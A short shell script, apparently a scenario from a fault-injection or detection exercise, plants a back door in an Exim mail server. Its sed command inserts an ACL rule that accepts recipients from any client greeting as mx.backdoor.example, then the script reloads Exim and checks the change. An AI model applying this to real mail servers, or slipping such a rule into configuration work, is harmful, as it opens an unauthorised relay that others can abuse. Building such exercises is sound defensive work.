#!/bin/sh
# breaks: mail_relay.restrictions
# caught-by: reading
# subject: exim
# what: an attacker left a back door: one greeting opens the server
set -eu
# shellcheck disable=SC2016 # Exim expands it, not the shell
sed -i 's/^acl_check_rcpt:$/&\n  accept\n    condition = ${if eq{$sender_helo_name}{mx.backdoor.example}}\n/' /etc/exim4/exim4.conf.template
systemctl reload exim4
exim4 -bP config | grep -qF backdoor
